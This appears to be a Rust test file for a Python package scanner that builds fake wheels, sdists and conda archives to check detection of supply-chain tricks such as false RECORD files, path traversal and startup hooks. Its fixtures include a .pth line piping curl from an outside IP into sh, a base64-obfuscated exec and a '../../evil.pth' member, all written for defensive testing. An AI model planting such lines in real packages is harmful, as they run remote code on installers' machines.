//! Packages as archives, through whole runs: the tricks that hide a file from who audits and not from who installs.

use crate::audit;
use sha2::{Digest as _, Sha256};
use std::fmt::Write as _;
use wellhead_core::Severity;
use wellhead_engine::Options;
use wellhead_formats::assemble::assemble;

const FILE: &str = "acme-1.0-py3-none-any.whl";
const INIT: (&str, &str) = ("acme/__init__.py", "def answer():\n    return 42\n");
const OTHER: (&str, &str) = ("acme/__init__.py", "def answer():\n    return 43\n");
const META: (&str, &str) = (
    "acme-1.0.dist-info/METADATA",
    "Metadata-Version: 2.1\nName: acme\nVersion: 1.0\n",
);
const WHEEL: (&str, &str) = (
    "acme-1.0.dist-info/WHEEL",
    "Wheel-Version: 1.0\nTag: py3-none-any\n",
);
const RECORD: &str = "acme-1.0.dist-info/RECORD";

fn record(members: &[(&str, &str)]) -> String {
    let mut out = String::new();
    for (name, content) in members {
        let digest = Sha256::digest(content.as_bytes());
        let hex = digest.iter().fold(String::new(), |mut hex, b| {
            let _ = write!(hex, "{b:02x}");
            hex
        });
        let _ = writeln!(out, "{name},sha256={hex},{}", content.len());
    }
    let _ = writeln!(out, "{RECORD},,");
    out
}

fn pack(kind: &str, members: &[(&str, &str)]) -> Vec<u8> {
    let mut listing = String::new();
    let verb = if kind == "tar" { "file" } else { "member" };
    for (name, content) in members {
        let _ = writeln!(listing, "{verb} {name}");
        for line in content.lines() {
            let _ = writeln!(listing, "  {line}");
        }
    }
    assemble(kind, &listing).unwrap()
}

/// A wheel with a RECORD of `listed`.
fn wheel(members: &[(&str, &str)], listed: &[(&str, &str)]) -> Vec<u8> {
    let record = record(listed);
    let mut all = members.to_vec();
    all.push((RECORD, &record));
    pack("zip", &all)
}

/// A wheel whose RECORD is true.
fn honest(members: &[(&str, &str)]) -> Vec<u8> {
    wheel(members, members)
}

/// `rule severity` of what is worth a warning, each once.
fn told(name: &str, bytes: &[u8]) -> String {
    let report = audit(&[(name, bytes)], &Options::default());
    let mut all: Vec<_> = report
        .findings
        .iter()
        .filter(|f| f.severity > Severity::Low)
        .map(|f| format!("{} {}", f.rule, f.severity))
        .collect();
    all.sort();
    all.dedup();
    all.join(", ")
}

#[test]
fn an_honest_wheel_raises_nothing() {
    assert_eq!(told(FILE, &honest(&[INIT, META, WHEEL])), "");
}

/// The six tricks that were measured against other scanners.
#[test]
fn tricks_with_the_members_of_a_wheel_are_found() {
    let true_record = [INIT, META, WHEEL];
    let twice = wheel(&[OTHER, INIT, META, WHEEL], &true_record);
    let wrong = wheel(&[OTHER, META, WHEEL], &true_record);
    let unlisted = wheel(&[INIT, META, WHEEL, ("acme/more.py", "x = 1\n")], &true_record);
    let climbing = honest(&[INIT, META, WHEEL, ("../../evil.pth", "import acme\n")]);
    let case = honest(&[INIT, META, WHEEL, ("Acme/__init__.py", "x = 1\n")]);
    let mut joined = honest(&[OTHER, META, WHEEL]);
    joined.extend(honest(&true_record));
    for (trick, bytes, expected) in [
        (
            "one name twice",
            &twice,
            "false-record critical, zip-header-mismatch critical",
        ),
        ("another digest", &wrong, "false-record critical"),
        ("an unlisted member", &unlisted, "false-record critical"),
        (
            "a member outside",
            &climbing,
            "archive-path-traversal critical, startup-hook medium",
        ),
        ("names that differ in case", &case, "archive-path-traversal high"),
    ] {
        assert_eq!(told(FILE, bytes), expected, "{trick}");
    }
    let told = told(FILE, &joined);
    assert!(told.contains("zip-header-mismatch critical"), "{told}");
}

#[test]
fn what_runs_at_every_start_is_told_before_it_is_installed() {
    let with = |path: &str, text: &str| told(FILE, &honest(&[INIT, META, WHEEL, (path, text)]));
    assert_eq!(
        with(
            "acme.pth",
            "import os; os.system('curl https://203.0.113.7/x | sh')\n"
        ),
        "malicious-package-code critical, startup-hook high"
    );
    assert_eq!(
        with(
            "acme.pth",
            "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"
        ),
        "malicious-package-code critical, startup-hook critical"
    );
    assert_eq!(with("acme.pth", "import acme\n"), "startup-hook medium");
    assert_eq!(with("acme.start", "acme:answer\n"), "startup-hook medium");
    assert_eq!(with("sitecustomize.py", "x = 1\n"), "startup-hook medium");
    // A folder that is put on the path, and a line that setuptools writes.
    assert_eq!(with("acme.pth", "acme/lib\n"), "");
    assert_eq!(with("acme/data.pth", "import acme\n"), "");
    let shim = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";
    assert_eq!(with("distutils-precedence.pth", shim), "");
}

#[test]
fn a_package_is_one_also_inside_of_others() {
    let told = |kind: &str, members: &[(&str, &str)], name: &str| told(name, &pack(kind, members));
    let info = "Metadata-Version: 2.1\nName: other\nVersion: 1.0\n";
    assert_eq!(
        told(
            "tar",
            &[("acme-1.0/PKG-INFO", info), ("acme-1.0/setup.py", "")],
            "acme-1.0.tar"
        ),
        "contradictory-identity high"
    );
    let index = r#"{"name": "acme", "version": "1.0", "build": "0"}"#;
    assert_eq!(
        told(
            "tar",
            &[("info/index.json", index), ("bin/.acme-pre-link.sh", "echo x")],
            "acme-1.0-0.tar"
        ),
        "conda-script medium"
    );
    assert_eq!(
        told(
            "zip",
            &[
                (
                    "EGG-INFO/PKG-INFO",
                    "Metadata-Version: 1.0\nName: acme\nVersion: 1\n"
                ),
                (
                    "EGG-INFO/entry_points.txt",
                    "[console_scripts]\ngit = acme:main\n"
                ),
                ("acme.py", ""),
            ],
            "acme-1-py3.12.egg"
        ),
        "shadowing-distribution high"
    );
    assert_eq!(told("zip", &[("__main__.py", "print(1)\n")], "app.pyz"), "");
}

/// A wheel of that name whose RECORD is true.
fn named(name: &str, version: &str, metadata: &str, members: &[(&str, &str)]) -> (String, Vec<u8>) {
    let stem = format!("{}-{version}", name.replace('-', "_"));
    let info = format!("{stem}.dist-info");
    let meta = format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n{metadata}");
    let (at, tags, record) = (
        format!("{info}/METADATA"),
        format!("{info}/WHEEL"),
        format!("{info}/RECORD"),
    );
    let mut all = members.to_vec();
    all.push((&at, &meta));
    all.push((&tags, WHEEL.1));
    let mut rows = String::new();
    for (path, content) in &all {
        let hex = Sha256::digest(content.as_bytes())
            .iter()
            .fold(String::new(), |mut hex, b| {
                let _ = write!(hex, "{b:02x}");
                hex
            });
        let _ = writeln!(rows, "{path},sha256={hex},{}", content.len());
    }
    let _ = writeln!(rows, "{record},,");
    all.push((&record, &rows));
    (format!("{stem}-py3-none-any.whl"), pack("zip", &all))
}

#[test]
fn a_known_attack_is_known_by_its_release_whatever_states_it() {
    let empty: &[(&str, &str)] = &[("x/__init__.py", "x = 1\n")];
    let (file, bytes) = named("ultralytics", "8.3.41", "", empty);
    assert_eq!(told(&file, &bytes), "compromised-release critical");
    // A release between the guilty ones.
    let (file, bytes) = named("ultralytics", "8.3.44", "", empty);
    assert_eq!(told(&file, &bytes), "");
    // The file alone still has the name.
    let (_, bytes) = named("acme", "1.0", "", empty);
    assert!(told("ultralytics-8.3.41-py3-none-any.whl", &bytes).contains("compromised-release critical"));
    let sdist = pack("tar", &[("ultralytics-8.3.41/setup.py", "x = 1\n")]);
    assert_eq!(
        told("ultralytics-8.3.41.tar", &sdist),
        "compromised-release critical"
    );
    let conda = pack(
        "tar",
        &[(
            "info/index.json",
            "{\"name\": \"ultralytics\", \"version\": \"8.3.41\", \"build\": \"0\"}",
        )],
    );
    assert_eq!(
        told("ultralytics-8.3.41-0.tar", &conda),
        "compromised-release critical"
    );
}

#[test]
fn modules_of_others_are_told_and_those_of_builds_are_not() {
    for (name, module, expected) in [
        (
            "foo-helper",
            "requests/__init__.py",
            "shadowing-distribution medium",
        ),
        ("foo-helper", "torch.py", "shadowing-distribution medium"),
        ("foo-helper", "requests/adapters/x.py", ""),
        ("foo-helper", "tests/__init__.py", ""),
        ("foo-helper", "google/cloud/x/__init__.py", ""),
        ("torch-cpu-build", "foo.py", ""),
        ("tensorflow-rocm-nightly", "tensorflow/__init__.py", ""),
        // Hints.
        ("requests-helper", "requests/__init__.py", ""),
        ("foo-helper", "json.py", ""),
    ] {
        let (file, bytes) = named(name, "1.0", "", &[(module, "x = 1\n")]);
        assert_eq!(told(&file, &bytes), expected, "{name} {module}");
    }
}

#[test]
fn a_stranger_with_the_metadata_of_a_project_is_told_and_its_kin_are_not() {
    let colorama = "Summary: Cross-platform colored terminal text.\nHome-page: https://github.com/tartley/colorama\n\n# colorama\n";
    for (name, expected) in [
        ("bettercolors", "borrowed-identity medium"),
        ("pytest-colorama-acme", ""),
        ("colorama-acme-fork", ""),
        ("colorama", ""),
    ] {
        let (file, bytes) = named(name, "1.0", colorama, &[("x/__init__.py", "x = 1\n")]);
        assert_eq!(told(&file, &bytes), expected, "{name}");
    }
}
